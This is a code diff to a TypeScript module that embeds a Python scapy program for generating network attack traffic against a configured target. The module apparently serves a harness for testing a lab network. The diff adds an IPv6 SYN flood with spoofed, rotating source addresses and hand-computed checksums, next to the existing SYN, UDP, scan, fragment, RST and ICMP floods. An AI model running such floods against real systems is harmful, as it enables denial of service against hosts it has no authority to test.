@@ -16,7 +16,7 @@ export function attacksMissing(): string | undefined {
 
 const PROGRAM = `
 import json, random, socket, sys
-from scapy.all import Ether, ICMP, IP, Raw, TCP, UDP
+from scapy.all import Ether, ICMP, IP, IPv6, Raw, TCP, UDP
 asked = json.loads(sys.argv[1])
 count, target, port = asked['count'], asked['target'], asked.get('port', 0)
 wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
@@ -64,6 +64,19 @@ def flood(packet, sum_at, destination=None):
 
 def syn():
     flood(IP(src='0.0.0.0', dst=target) / TCP(sport=0, dport=0, flags='S', seq=7, options=[('MSS', 1460)]), 50)
+
+def syn6():
+    """Each of another station of the link, none of which is there."""
+    packet = IPv6(src=asked['source'], dst=target) / TCP(sport=0, dport=port, flags='S', seq=7)
+    frame = bytearray(bytes(link / packet))
+    sum_ = word(frame, 70) ^ 0xffff
+    for i in range(count):
+        high, low, own = 0x100 + (i >> 16), i & 0xffff, 1024 + i * 7 % 60000
+        put(frame, 34, high)
+        put(frame, 36, low)
+        put(frame, 54, own)
+        put(frame, 70, fold(sum_ + high + low + own) ^ 0xffff)
+        wire.send(frame)
 
 def udp():
     # One in four to what is published, the others to anything.
@@ -119,8 +132,8 @@ globals()[asked['kind']]()
 `;
 
 export interface Attack {
-  /** From sources of 20.0.0.0/8, or of network blue when `inside`: `syn`, `udp`. From one: `scan`, `fragments`, `rst`, `icmp`. */
-  readonly kind: 'syn' | 'udp' | 'scan' | 'fragments' | 'rst' | 'icmp';
+  /** From sources of 20.0.0.0/8 (`syn6`: of the /64 of `source`, whose last word is 0), or of network blue when `inside`: `syn`, `udp`. From one: `scan`, `fragments`, `rst`, `icmp`. */
+  readonly kind: 'syn' | 'syn6' | 'udp' | 'scan' | 'fragments' | 'rst' | 'icmp';
   /** Interface that it leaves by, and the station it is for. */
   readonly device: string;
   readonly station: string;
